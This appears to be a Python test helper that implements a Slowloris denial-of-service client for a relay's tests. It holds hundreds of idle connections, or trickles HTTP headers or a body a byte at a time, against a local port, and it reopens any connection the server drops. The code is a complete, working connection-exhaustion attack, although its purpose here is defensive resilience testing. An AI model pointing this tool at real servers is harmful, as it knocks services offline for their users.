"""Hostile clients for the relay's hold-down tests: many connections that send nothing,
or trickle their headers or their body a byte at a time, kept open for as long as the
server lets them (one it closes is opened again at once, as an attacker would).

::

    with Slowloris("127.0.0.1", port, idle=400, headers=350, body=350) as attack:
        attack.wait_open(1000)
        ...                       # a real client's requests meanwhile
        attack.open, attack.reopened

    with attack_process(port, idle=400, headers=350, body=350) as stats:  # its own process,
        stats()["held"]                               # so the test's clients share no GIL

One thread drives every socket (non-blocking, ``selectors``): it opens all of them at
once, sends each connection's next byte every ``interval_s``, notices the ones the server
closed and opens new ones (at most ``reconnect_per_s`` a second, so the attacker's own CPU
does not starve the machine's other processes).
"""

from __future__ import annotations

import argparse
import contextlib
import errno
import json
import os
import selectors
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from types import TracebackType

HEAD_TRICKLE = (b"POST /webhooks/videsk HTTP/1.1\r\nHost: relay\r\n"
                b"Content-Type: application/json\r\nX-Slow: ")
"""A header section that never ends: after it, one more ``a`` every interval."""
BODY_HEAD = (b"POST /webhooks/videsk HTTP/1.1\r\nHost: relay\r\n"
             b"Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n")
"""Whole headers announcing a body that then comes a byte every interval."""


@dataclass
class _Conn:
    kind: str
    sock: socket.socket
    connected: bool = False
    sent_head: bool = False


class Slowloris(threading.Thread):
    """``idle`` + ``headers`` + ``body`` hostile connections to ``host:port``."""

    def __init__(self, host: str, port: int, *, idle: int = 0, headers: int = 0,
                 body: int = 0, interval_s: float = 1.0, reconnect_per_s: float = 400.0
                 ) -> None:
        super().__init__(name="slowloris", daemon=True)
        self.address = (host, port)
        self.wanted = {"idle": idle, "headers": headers, "body": body}
        self.interval_s = interval_s
        self.reconnect_per_s = reconnect_per_s
        self.open = 0
        """Connections established and not (yet) closed by the server."""
        self.pending = 0
        """Connections still connecting (in the server's accept queue or its SYN queue)."""
        self.opened = 0
        self.reopened = 0
        """Connections the server closed (so opened again)."""
        self.errors = 0
        self.most_held = 0
        """The most connections established or connecting at once."""
        self._conns: dict[int, _Conn] = {}
        self._sel = selectors.DefaultSelector()
        self._halt = threading.Event()

    def __enter__(self) -> Slowloris:
        self.start()
        return self

    def __exit__(self, t: type[BaseException] | None, e: BaseException | None,
                 tb: TracebackType | None) -> None:
        self.stop()

    def stop(self) -> None:
        self._halt.set()
        self.join(timeout=30)

    def wait_open(self, n: int, timeout_s: float = 60.0) -> None:
        """Until ``n`` connections are established or connecting."""
        deadline = time.monotonic() + timeout_s
        while self.open + self.pending < n:
            if time.monotonic() > deadline:
                raise AssertionError(f"only {self.open} open, {self.pending} connecting")
            time.sleep(0.1)

    # ------------------------------------------------------------------ the thread

    def _connect(self, kind: str) -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        err = sock.connect_ex(self.address)
        if err not in (0, errno.EINPROGRESS):
            sock.close()
            self.errors += 1
            return
        conn = _Conn(kind, sock)
        self._conns[sock.fileno()] = conn
        self._sel.register(sock, selectors.EVENT_WRITE, conn)
        self.opened += 1

    def _close(self, conn: _Conn) -> None:
        fd = conn.sock.fileno()
        if fd >= 0:
            self._sel.unregister(conn.sock)
            del self._conns[fd]
        conn.sock.close()

    def _send(self, conn: _Conn, data: bytes) -> bool:
        try:
            conn.sock.send(data)
        except BlockingIOError:
            return True
        except OSError:
            return False
        return True

    def _tick(self) -> None:
        """Each established connection's next byte."""
        for conn in list(self._conns.values()):
            if not conn.connected or conn.kind == "idle":
                continue
            if not conn.sent_head:
                conn.sent_head = True
                ok = self._send(conn, HEAD_TRICKLE if conn.kind == "headers" else BODY_HEAD)
            else:
                ok = self._send(conn, b"a" if conn.kind == "headers" else b" ")
            if not ok:
                self._closed(conn)

    def _closed(self, conn: _Conn) -> None:
        self._close(conn)
        self.reopened += 1

    def _count(self) -> None:
        self.open = sum(c.connected for c in self._conns.values())
        self.pending = len(self._conns) - self.open
        self.most_held = max(self.most_held, len(self._conns))

    def stats(self) -> dict[str, int]:
        return {"open": self.open, "pending": self.pending, "held": self.open + self.pending,
                "most_held": self.most_held, "opened": self.opened,
                "reopened": self.reopened, "errors": self.errors}

    def run(self) -> None:
        next_tick = time.monotonic()
        budget = float(sum(self.wanted.values()))  # all at once, then reconnect_per_s
        last = time.monotonic()
        try:
            while not self._halt.is_set():
                moment = time.monotonic()
                budget = max(budget, min(self.reconnect_per_s, budget +
                                         (moment - last) * self.reconnect_per_s))
                last = moment
                have: dict[str, int] = dict.fromkeys(self.wanted, 0)
                for c in self._conns.values():
                    have[c.kind] += 1
                for kind, n in self.wanted.items():
                    while have[kind] < n and budget >= 1:
                        self._connect(kind)
                        have[kind] += 1
                        budget -= 1
                for key, events in self._sel.select(timeout=0.05):
                    conn: _Conn = key.data
                    if events & selectors.EVENT_WRITE and not conn.connected:
                        if conn.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                            self._closed(conn)
                            continue
                        conn.connected = True
                        self._sel.modify(conn.sock, selectors.EVENT_READ, conn)
                    elif events & selectors.EVENT_READ:
                        try:
                            data = conn.sock.recv(4096)
                        except OSError:
                            data = b""
                        if not data:  # closed (or reset) by the server
                            self._closed(conn)
                if moment >= next_tick:
                    next_tick = moment + self.interval_s
                    self._tick()
                self._count()
        finally:
            for conn in list(self._conns.values()):
                self._close(conn)
            self._sel.close()
            self.open = self.pending = 0


@contextlib.contextmanager
def attack_process(port: int, *, idle: int, headers: int, body: int,
                   interval_s: float = 1.0, reconnect_per_s: float = 400.0,
                   wait_open: int = 0) -> Iterator[Callable[[], dict[str, int]]]:
    """:class:`Slowloris` in a process of its own (this script), against
    ``127.0.0.1:port``; yields a function that reads its latest figures (see
    :meth:`Slowloris.stats`), once ``wait_open`` connections were held at once."""
    with tempfile.TemporaryDirectory() as folder:
        out = Path(folder) / "stats.json"
        proc = subprocess.Popen(
            [sys.executable, __file__, str(port), "--idle", str(idle), "--headers",
             str(headers), "--body", str(body), "--interval", str(interval_s),
             "--reconnect-per-s", str(reconnect_per_s), "--stats", str(out)])

        def stats() -> dict[str, int]:
            for _ in range(50):
                with contextlib.suppress(OSError, ValueError):
                    figures: dict[str, int] = json.loads(out.read_text())
                    return figures
                time.sleep(0.02)
            raise AssertionError("the attack wrote no figures")

        try:
            deadline = time.monotonic() + 60
            while not out.exists() or stats()["most_held"] < wait_open:
                assert proc.poll() is None, "the attack ended"
                assert time.monotonic() < deadline, f"the attack holds {stats()}"
                time.sleep(0.05)
            yield stats
        finally:
            proc.terminate()
            proc.wait(timeout=30)


def main() -> None:
    """``python tests/slowloris.py PORT --idle N --headers N --body N --stats FILE``: run
    until SIGTERM, writing the figures to FILE ten times a second."""
    import resource
    import signal
    p = argparse.ArgumentParser()
    p.add_argument("port", type=int)
    for name in ("idle", "headers", "body"):
        p.add_argument(f"--{name}", type=int, default=0)
    p.add_argument("--interval", type=float, default=1.0)
    p.add_argument("--reconnect-per-s", type=float, default=400.0)
    p.add_argument("--stats", type=Path, required=True)
    args = p.parse_args()
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
    attack = Slowloris("127.0.0.1", args.port, idle=args.idle, headers=args.headers,
                       body=args.body, interval_s=args.interval,
                       reconnect_per_s=args.reconnect_per_s)
    done = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: done.set())
    attack.start()
    tmp = args.stats.with_suffix(".tmp")
    while not done.wait(0.1):
        tmp.write_text(json.dumps(attack.stats()))
        os.replace(tmp, args.stats)
    attack.stop()


if __name__ == "__main__":
    main()
